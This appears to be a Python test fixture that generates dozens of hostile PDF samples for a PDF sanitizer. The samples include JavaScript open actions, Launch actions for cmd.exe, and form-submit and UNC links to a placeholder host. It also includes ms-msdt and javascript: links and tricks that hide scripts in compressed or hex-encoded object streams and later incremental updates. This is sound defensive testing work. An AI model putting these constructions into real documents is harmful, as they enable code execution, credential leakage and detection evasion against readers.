"""PDFs that act by themselves or lead out, each made here: name -> maker."""

import zlib
from collections.abc import Callable
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.support import samples

SCRIPT: dict[str, Any] = {"S": Name.JavaScript, "JS": String("app.alert(1)")}
UNC = r"\\203.0.113.9\share\x"


def pdf(change: Callable[[pikepdf.Pdf, pikepdf.Page], object], **options) -> bytes:
    """One page, changed."""
    document = pikepdf.new()
    page = document.add_blank_page()
    page.obj.Contents = document.make_stream(b"BT ET")
    change(document, page)
    written = BytesIO()
    document.save(written, **options)
    return written.getvalue()


def opening(action) -> Callable[[], bytes]:
    """An action when it is opened."""
    return lambda: pdf(lambda d, _p: d.Root.__setitem__("/OpenAction", action))


def pressing(action) -> Callable[[], bytes]:
    """An action when a link is pressed."""
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)
    return lambda: pdf(lambda _d, p: p.obj.__setitem__("/Annots", Array([link])))


def annotation(kind: str, **more) -> Callable[[], bytes]:
    """An annotation of this kind, without a type."""

    def change(document, page):
        one = Dictionary(Subtype=Name(f"/{kind}"), Rect=[0, 0, 9, 9], **more)
        page.obj.Annots = Array([document.make_indirect(one)])

    return lambda: pdf(change)


def catalog(key: str, value) -> Callable[[], bytes]:
    """An entry of the catalog."""
    return lambda: pdf(lambda d, _p: d.Root.__setitem__(key, value))


def uri(address: str) -> Callable[[], bytes]:
    """A link."""
    return pressing(Dictionary(S=Name.URI, URI=String(address)))


def embedded() -> bytes:
    """A file in the tree of names, whose stream says nothing of what it is."""

    def change(document, _page):
        stream = document.make_stream(b"MZ")
        spec = Dictionary(Type=Name.Filespec, F="a.exe", EF=Dictionary(F=stream))
        document.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array(["a", spec])))

    return pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def associated() -> bytes:
    """A file beside the document, in no tree."""

    def change(document, _page):
        stream = document.make_stream(b"MZ")
        document.Root.AF = Array([Dictionary(EF=Dictionary(UF=stream))])

    return pdf(change)


def bundled(head: bytes, packed: bytes) -> Callable[[], bytes]:
    """Object 5, a script, in a bundle whose dictionary is ``head``; a true list of objects."""

    def make() -> bytes:
        return with_list({
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
            4: b"<< %s /N 1 /First 4 /Length %d >>\nstream\n%s\nendstream"
            % (head, len(packed), packed),
        }, bundle=4, inside=5)  # fmt: skip

    return make


def with_list(objects: dict[int, bytes], *, bundle: int, inside: int) -> bytes:
    """These objects and a cross-reference stream that finds one more in a bundle."""
    written, rows = b"%PDF-1.5\n", {0: (0, 0, 65535)}
    for number, words in objects.items():
        rows[number] = (1, len(written), 0)
        written += b"%d 0 obj\n%s\nendobj\n" % (number, words)
    rows[inside] = (2, bundle, 0)
    last = max(rows) + 1
    rows[last] = (1, len(written), 0)
    table = b"".join(
        bytes([kind]) + place.to_bytes(4, "big") + more.to_bytes(2, "big")
        for kind, place, more in (rows[n] for n in sorted(rows))
    )
    head = b"<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>" % (last + 1, len(table))
    return (
        written
        + b"%d 0 obj\n%s\nstream\n%s\nendstream\nendobj\n" % (last, head, table)
        + b"startxref\n%d\n%%%%EOF\n" % rows[last][1]
    )


PACKED = b"5 0 << /S /JavaScript /JS (app.alert(1)) >>"
TWICE = zlib.compress(zlib.compress(PACKED))
HEX = PACKED.hex().encode() + b">"


def updated(content: bytes, words: bytes, *, root: int = 1) -> bytes:
    """One more state behind the end: the catalog anew."""
    start = content.rindex(b"startxref")
    before = int(content[start:].split()[1])
    size = int(content[content.rindex(b"/Size") :].split()[1])
    at = len(content)
    new = b"%d 0 obj\n%s\nendobj\n" % (root, words)
    table = b"xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root %d 0 R /Prev %d >>\n" % (
        root, at, size, root, before,
    )  # fmt: skip
    return content + new + table + b"startxref\n%d\n%%%%EOF\n" % (at + len(new))


def base() -> bytes:
    """A plain page, without packed objects."""
    return pdf(lambda _d, _p: None, object_stream_mode=pikepdf.ObjectStreamMode.disable)


def pages_of(content: bytes) -> bytes:
    """How the catalog names its pages."""
    with pikepdf.open(BytesIO(content)) as document:
        return b"%d 0 R" % document.Root.Pages.objgen[0]


def signed(change=lambda _d, _p: None) -> bytes:
    """A page with a field that holds a signature over the whole file."""

    def both(document, page):
        signature = Dictionary(
            Type=Name.Sig,
            Filter=Name("/Adobe.PPKLite"),
            ByteRange=[0, 100, 200, 300],
            Contents=b"\0" * 50,
        )
        field = document.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Widget,
                FT=Name.Sig,
                T="Signature",
                Rect=[0, 0, 9, 9],
                V=document.make_indirect(signature),
            )
        )
        page.obj.Annots = Array([field])
        document.Root.AcroForm = Dictionary(Fields=Array([field]), SigFlags=3)
        change(document, page)

    return pdf(both, object_stream_mode=pikepdf.ObjectStreamMode.disable)


def signed_then_scripted() -> bytes:
    """A state with a script, hidden by a later state without."""
    plain = signed()
    pages = pages_of(plain)
    script = updated(plain, b"<< /Type /Catalog /Pages %s /AA << /WC << /S /Hide >> >> >>" % pages)
    return updated(script, b"<< /Type /Catalog /Pages %s >>" % pages)


def locked() -> bytes:
    """Locked with an empty password: it opens for everybody."""
    return pdf(lambda _d, _p: None, encryption=pikepdf.Encryption(owner="x", user=""))


def field(**more) -> Callable[[], bytes]:
    """A field of a form."""

    def change(document, page):
        one = document.make_indirect(
            Dictionary(Subtype=Name.Widget, FT=Name.Tx, T="a", Rect=[0, 0, 9, 9], **more)
        )
        page.obj.Annots = Array([one])
        document.Root.AcroForm = Dictionary(Fields=Array([one]))

    return lambda: pdf(change)


def stream_elsewhere() -> bytes:
    """Content that is read from a file on another computer."""

    def change(document, page):
        stream = document.make_stream(b"")
        stream.F = Dictionary(Type=Name.Filespec, F=UNC)
        page.obj.Contents = stream

    return pdf(change)


def page_elsewhere() -> bytes:
    """A form that is a page of another file."""

    def change(document, page):
        form = document.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9])
        form.Ref = Dictionary(F=UNC, Page=0)
        page.obj.Resources = Dictionary(XObject=Dictionary(X=form))

    return pdf(change)


def postscript() -> bytes:
    """A program for printers."""

    def change(document, page):
        form = document.make_stream(b"quit", Type=Name.XObject, Subtype=Name.PS)
        page.obj.Resources = Dictionary(XObject=Dictionary(X=form))

    return pdf(change)


def ring() -> bytes:
    """Actions that follow each other in a ring, with a program among them."""

    def change(document, _page):
        one = document.make_indirect(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit])))
        two = document.make_indirect(Dictionary(S=Name.Hide, T="a"))
        one.Next = Array([one, two])
        two.Next = one
        document.Root.OpenAction = one

    return pdf(change)


def outline() -> bytes:
    """A heading in the list of headings that opens another file."""

    def change(document, _page):
        heading = document.make_indirect(Dictionary(Title="a", A=Dictionary(S=Name.GoToR, F=UNC)))
        document.Root.Outlines = document.make_indirect(Dictionary(First=heading, Last=heading))

    return pdf(change)


HOSTILE_PDFS: dict[str, Callable[[], bytes]] = {
    "script on opening": opening(Dictionary(**SCRIPT)),
    "script in the names": catalog(
        "/Names", Dictionary(JavaScript=Dictionary(Names=Array(["a", Dictionary(**SCRIPT)])))
    ),
    "script on closing": catalog("/AA", Dictionary(WC=Dictionary(**SCRIPT))),
    "script in a field": field(AA=Dictionary(K=Dictionary(**SCRIPT))),
    "script packed twice": bundled(b"/Type /ObjStm /Filter [/FlateDecode /FlateDecode]", TWICE),
    "script packed twice and mistyped": bundled(
        b"/Type /X /Filter [/FlateDecode /FlateDecode]", TWICE
    ),
    "script in a bundle of no type": bundled(b"/Filter /FlateDecode", zlib.compress(PACKED)),
    "script in hexadecimals": bundled(b"/Type /X /Filter /ASCIIHexDecode", HEX),
    "script in hexadecimals, packed": bundled(
        b"/Type /X /Filter [/FlateDecode /AHx]", zlib.compress(HEX)
    ),
    "script under an escaped type": bundled(
        b"/Type /Obj#53tm /Filter [/FlateDecode]", zlib.compress(PACKED)
    ),
    "script behind a press": pressing(Dictionary(**SCRIPT)),
    "script behind a page": pressing(
        Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Dictionary(**SCRIPT))
    ),
    "launch": pressing(Dictionary(S=Name.Launch, F="cmd.exe")),
    "launch for one system": opening(Dictionary(S=Name.Launch, Win=Dictionary(F="cmd.exe"))),
    "another file over the network": pressing(Dictionary(S=Name.GoToR, F=UNC, D=Array([0]))),
    "another file on opening": opening(Dictionary(S=Name.GoToR, F=UNC, D=Array([0]))),
    "file in a file": pressing(Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N="a"))),
    "part of a document": pressing(Dictionary(S=Name.GoToDp)),
    "send a form": pressing(Dictionary(S=Name.SubmitForm, F="http://203.0.113.9/")),
    "fill a form": pressing(Dictionary(S=Name.ImportData, F=UNC)),
    "rendition": pressing(Dictionary(S=Name.Rendition, OP=0, JS=String("app.alert(1)"))),
    "rendition without a script": pressing(Dictionary(S=Name.Rendition, OP=0)),
    "renditions in the names": catalog("/Names", Dictionary(Renditions=Dictionary(Names=[]))),
    "movie": annotation("Movie", Movie=Dictionary(F=UNC)),
    "movie action": pressing(Dictionary(S=Name.Movie)),
    "sound": annotation("Sound"),
    "sound action": pressing(Dictionary(S=Name.Sound)),
    "screen": annotation("Screen"),
    "rich media": annotation("RichMedia"),
    "three dimensions": annotation("3D"),
    "attached to a page": annotation("FileAttachment", FS=Dictionary(F="a.exe")),
    "kind nobody knows": annotation("Projection"),
    "action nobody knows": pressing(Dictionary(S=Name("/RunThis"))),
    "hide": pressing(Dictionary(S=Name.Hide, T="a")),
    "thread": pressing(Dictionary(S=Name.Thread, F=UNC, D=0)),
    "print on opening": opening(Dictionary(S=Name.Named, N=Name.Print)),
    "web page on opening": opening(Dictionary(S=Name.URI, URI="http://203.0.113.9/")),
    "web page when a page is shown": lambda: pdf(
        lambda _d, p: p.obj.__setitem__(
            "/AA", Dictionary(O=Dictionary(S=Name.URI, URI="http://203.0.113.9/"))
        )
    ),
    "link to a file": uri("file:///C:/Windows/System32/cmd.exe"),
    "link over the network": uri(UNC),
    "link over the network, turned": uri("//203.0.113.9/share/x"),
    "link to a script": uri("javascript:alert(1)"),
    "link to a script, broken": uri("java\tscript:alert(1)"),
    "link of a program": uri("ms-msdt:/id PCWDiagnostic"),
    "link without an owner": uri("http:\\\\203.0.113.9\\x"),
    "link beside the document": uri("evil.exe"),
    "link from a base": catalog("/URI", Dictionary(Base="file://203.0.113.9/")),
    "heading to another file": outline,
    "xfa": lambda: pdf(
        lambda d, _p: d.Root.__setitem__(
            "/AcroForm", Dictionary(Fields=Array([]), XFA=d.make_stream(b"<xdp:xdp/>"))
        )
    ),
    "xfa in pieces": catalog("/AcroForm", Dictionary(XFA=Array(["template", String("<t/>")]))),
    "embedded file": embedded,
    "associated file": associated,
    "portfolio": catalog("/Collection", Dictionary(View=Name.T)),
    "locked with nothing": locked,
    "content elsewhere": stream_elsewhere,
    "page of another file": page_elsewhere,
    "program for printers": postscript,
    "ring of actions": ring,
    "what a reader must have": catalog(
        "/Requirements", Array([Dictionary(S=Name.EnableJavaScripts)])
    ),
    "signed with a script": lambda: signed(
        lambda d, _p: d.Root.__setitem__("/OpenAction", Dictionary(S=Name.Hide))
    ),
    "signed with a state in between": signed_then_scripted,
    "signed with a launch in no list": lambda: signed().replace(
        b"xref\n", b"99 0 obj\n<< /S /Rendition >>\nendobj\nxref\n", 1
    ),
    "signed for show": lambda: base().replace(b"%PDF-", b"%PDF-1.7 /ByteRange [0 1 2 3]\n%PDF-", 1),
    "script in a later state": lambda: updated(
        base(),
        b"<< /Type /Catalog /Pages %s /OpenAction << /S /Java#53cript /JS (x) >> >>"
        % pages_of(base()),
    ),
    "page for browsers inside": lambda: base().replace(b"\n", b"\n%<script>alert(1)</script>\n", 1),
    "archive inside": lambda: base() + samples.docx()[:-4] + b"\n%%EOF",
}
